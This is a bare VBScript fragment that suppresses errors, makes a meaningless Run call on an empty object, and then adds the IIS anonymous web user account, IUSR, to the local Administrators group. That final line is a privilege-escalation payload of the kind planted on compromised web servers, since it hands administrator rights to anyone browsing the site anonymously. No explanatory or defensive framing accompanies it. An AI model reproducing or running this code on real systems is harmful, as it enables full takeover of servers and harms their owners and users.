On Error Resume Next
Set x = Nothing
x.Run
On Error GoTo 0
GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
